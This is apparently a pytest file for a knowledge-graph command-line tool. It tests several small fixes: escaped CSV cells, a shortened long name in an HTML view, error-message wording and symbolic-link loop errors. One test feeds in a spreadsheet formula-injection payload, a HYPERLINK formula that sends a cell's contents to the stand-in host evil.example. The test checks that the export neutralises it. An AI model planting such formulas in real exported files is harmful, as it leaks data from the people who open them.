"""Defect 12, the small ones: spreadsheet formulas in CSV cells, a huge centre name in the view's
header and the CLI summary, "at at column", a symbolic link loop called "no such file"."""

from __future__ import annotations

import csv
import json
import os

from click.testing import CliRunner

from advutil import kg, one_line
from kg.cli import main


def _store_with(tmp_path, title: str, name: str):
    from factsutil import make_facts

    from kg.store.embedded import EmbeddedStore

    store = tmp_path / "kg.db"
    facts = make_facts(title, f"We propose {name} and evaluate it on GLUE.",
                       [("PROPOSES", "Method", name), ("EVALUATES_ON", "Dataset", "GLUE")])
    with EmbeddedStore(store) as s:
        s.write([facts])
    return store


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(tmp_path):
    store = _store_with(tmp_path, '=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)")
    out = tmp_path / "csv"
    res = CliRunner().invoke(main, ["export", "--store", str(store), "--format", "csv", "-o", str(out)])
    assert res.exit_code == 0, res.output
    cells = [c for f in ("nodes.csv", "edges.csv") for row in csv.reader(open(out / f, encoding="utf-8"))
             for c in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    res = CliRunner().invoke(main, ["query", "entities_by_type", "-p", "type=Method", "--format", "csv",
                                    "--store", str(store)])
    rows = list(csv.reader(res.output.splitlines()))
    assert rows[0][0] == "name" and [r[0] for r in rows[1:]] == ["'@SUM(A1:A9)"]
    # JSON keeps values as they are (no spreadsheet reads it)
    res = CliRunner().invoke(main, ["export", "--store", str(store), "--format", "json", "-o", str(tmp_path / "g.json")])
    titles = [n.get("title") for n in json.load(open(tmp_path / "g.json"))["nodes"]]
    assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in titles


def test_a_huge_centre_name_does_not_fill_the_summary_or_the_header(tmp_path):
    name = "Huge" + "x" * 450
    store = _store_with(tmp_path, "A paper about a huge name", name)
    res = CliRunner().invoke(main, ["neighbourhood", name, "--store", str(store), "-o", str(tmp_path / "v.html")])
    assert res.exit_code == 0, res.output
    summary = res.output.strip().splitlines()[-1]
    assert len(summary) < 400 and "\u2026" in summary
    page = (tmp_path / "v.html").read_text(encoding="utf-8")
    title = page[page.index("<title>") + 7:page.index("</title>")]
    assert len(title) < 200
    data = page[page.index('"title":"'):][:400]  # what the page shows in its header
    assert "x" * 200 not in data


def test_no_at_at_column(tmp_path):
    path = tmp_path / "p.jsonl"
    path.write_text('{"title": "ok"}\n{"title": "bad \x01 control"}\n', encoding="utf-8")
    res = CliRunner().invoke(main, ["extract", str(path), "-o", str(tmp_path / "f.jsonl")])
    assert f"{path}:2: not valid JSON (Invalid control character at column" in res.output
    assert "at at" not in res.output


def test_a_symbolic_link_loop_is_called_one(tmp_path):
    loop = tmp_path / "loop.jsonl"
    os.symlink(loop, loop)
    res = kg("extract", loop, "-o", tmp_path / "f.jsonl")
    assert res.returncode == 1 and one_line(res.stderr) == f"Error: {loop}: a symbolic link loop"
    broken = tmp_path / "broken.jsonl"
    os.symlink(tmp_path / "nowhere", broken)
    res = kg("extract", broken, "-o", tmp_path / "f.jsonl")
    assert one_line(res.stderr) == f"Error: {broken}: a broken symbolic link"
    res = kg("stats", "--store", loop)
    assert res.returncode == 1 and "symbolic link loop" in one_line(res.stderr)
